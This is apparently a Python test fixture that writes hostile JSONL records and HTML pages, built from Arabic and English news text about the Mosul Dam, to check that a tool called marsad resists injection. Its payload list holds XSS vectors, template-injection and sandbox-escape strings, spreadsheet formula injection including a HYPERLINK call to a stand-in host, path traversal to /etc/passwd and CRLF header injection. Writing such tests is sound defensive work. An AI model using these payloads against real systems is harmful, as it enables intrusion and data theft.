"""Two hundred documents by somebody who wishes us ill: payloads in every field, in five shapes.

A payload that works would set ``pwned`` in the page, make an element or attribute of that name,
leave the site, or be reckoned out; ``tests/web/test_hostile.py`` looks for each of these.
"""

from __future__ import annotations

import json
from html import escape
from pathlib import Path

RUN = "window.pwned=1"
SITE = "//pwned.example"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script href=https:{SITE}/a.js></script></svg>",
    f"</title><script>{RUN}</script>",
    f"</textarea></style></script><pwned onclick={RUN}>",
    "--><pwned><!--",
    "]]><pwned><![CDATA[",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;&#x3c;pwned&#x3e;",
    "&amp;lt;pwned&amp;gt;&nbsp;&bogus;&#0;&#1114112;",
    "\u202e<pwned>\u202c\u2066\u2067\u2068\u2069\u200f\u200e",
    "\u202epmoc.elpmaxe\u202c \u2067abc",
    "{{7*7}}pwned{{7*7}}{% raw %}{{ request.app.state.secret }}${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{# pwned #}",
    f'=HYPERLINK("http:{SITE}/?"&A1,"pwned")',
    "+cmd|' /C pwned'!A0",
    "@SUM(1+1)*cmd|'pwned'!A0",
    "\t=1+1\r\n=2+2",
    "no\u200bth\u200cing\u200d to\u2060 see\ufeff\u00ad",
    "a\x00b\x07c\x1b[31md\x85e\x9bf\x7f",
    "\ud800\udfff lone \udc00",
    "\u2028\u2029\ufff9\ufffa\ufffb\U000e0041\U000f0000\uffff",
    "<b>" * 700 + "pwned",
    "(" * 1_000 + "«" * 1_000 + '"' * 1_001,
    "ا" * 8_000,
    "W" * 20_000,
    "Ahmad Salem " * 500,
    "ا" + "\u064b" * 900 + "Z" + "\u0301" * 900,
    f"[x](javascript:{RUN}) ![y](https:{SITE}/y.png)",
    f"javascript:{RUN}//",
    f"  java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'https:{SITE}/"onmouseover="{RUN}"style="position:fixed;inset:0',
    f"{SITE}/x",
    "../../../../etc/passwd%00?pwned=1#pwned/page",
    f"pwned\r\nSet-Cookie: pwned=1\r\n\r\n<script>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><base href={SITE}>'
    f"<meta http-equiv=refresh content=0;url=https:{SITE}><form action={SITE}><input name=pwned>"
    f"<link rel=stylesheet href={SITE}/x.css><object data={SITE}><math><mtext><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"\\u003cscript\\u003e{RUN}\\x3c/script\\x3e%3Cscript%3E{RUN}%3C/script%3E",
    f'<xmp><p title="</xmp><pwned {RUN}>"><plaintext><!--[if IE]><pwned><![endif]-->',
)
FAILING = 5  # more, which cannot be read: what is said of failures is shown too


def write(folder: Path) -> None:
    """The documents as files that ``marsad add`` takes."""
    lines: list[str] = []
    for number, payload in enumerate(PAYLOADS):
        day = f"2024-03-{1 + number % 5:02}"
        lines += (json.dumps(one) for one in _records(number, day, payload))
        if number < FAILING:
            lines.append(json.dumps({"id": f"bad-{payload}", "lang": payload, "text": payload}))
        page = folder / f"page-{number}.html"
        page.write_text(_page(number, day, payload), encoding="utf-8", errors="replace")
    (folder / "hostile.jsonl").write_text("\n".join(lines), encoding="utf-8")


def own_list() -> str:
    """A list of actors with names that no actor has."""
    names = [one for one in PAYLOADS if one.isprintable() and len(one) < 200]
    entries = [
        f'[[actor]]\nid = "actor-{at}"\nname = {json.dumps(f"Actor {one}")}\n'
        f"ar = [{json.dumps(f'حركة البوابة {at}', ensure_ascii=False)}]\n"
        f'sector = "SOC"\ntype = "movement"\nexample = "قالت حركة البوابة {at} إن الباب مغلق"\n'
        for at, one in enumerate(names)
    ]
    return "\n".join(entries)


def _records(number: int, day: str, payload: str) -> list[dict[str, str]]:
    """Four documents: one thing told, passed on, denied and counted, so that they are joined."""
    gates = "أغلقت ثلاث بوابات في سد الموصل"
    return [
        {
            "id": f"h{number}-title",
            "published": day,
            "outlet": "صحيفة الضفة",
            "title": payload,
            "text": f"قال مصدر في وزارة الموارد المائية العراقية إن الوزارة {gates}. "
            f"وقالت حركة البوابة {number} إن {payload} في مدينة الرقة.\n{payload}",
        },
        {
            "id": f"h{number}-outlet",
            "published": day,
            "outlet": payload,
            "author": payload,
            "title": "Three gates closed",
            "text": "The Iraqi Ministry of Water Resources said it closed three gates at the "
            f'Mosul Dam. A spokesman for {payload} told {payload}: "{payload}"',
        },
        {
            "id": payload,
            "published": day,
            "outlet": f"موقع {number}",
            "url": payload,
            "text": f"نقلت {payload} عن {payload} أن وزارة الموارد المائية العراقية {gates}.",
        },
        {
            "id": f"h{number}-denial",
            "published": f"{day}T10:00:00+03:00",
            "outlet": f"وكالة {payload}",
            "author": "x",
            "url": f"https:{SITE}/{payload}",
            "title": f"نفي {payload}",
            "text": f"نفت وزارة الموارد المائية العراقية أن تكون قد {gates}. "
            f"وأعلن {payload} مقتل {number + 3} أشخاص في مدينة الموصل.",
        },
    ]


def _page(number: int, day: str, payload: str) -> str:
    """A page of the web, with the payload raw and escaped."""
    return (
        f'<!doctype html><html lang="ar"><head><title>{payload}</title>'
        f'<meta property="og:site_name" content="{escape(payload)}">'
        f'<meta name="author" content="{escape(payload)}">'
        f'<meta property="article:published_time" content="{day}">'
        f'<link rel="canonical" href="{escape(payload)}">'
        f"<script>window.pwned=1;parent.pwned=1</script></head><body onload={RUN}>"
        f"<article><h1>{escape(payload)}</h1>"
        "<p>قالت وزارة الموارد المائية العراقية إن ثلاث بوابات في سد الموصل أُغلقت يوم الاثنين. "
        f"وأضاف {escape(payload)} أن الإغلاق {number} سيستمر أسبوعا."
        f"</p><p>{payload}</p><p>وأكد مسؤول في الوزارة أن العمل في السد مستمر كما كان من قبل.</p>"
        f"<img src=https:{SITE}/p.png></article></body></html>"
    )
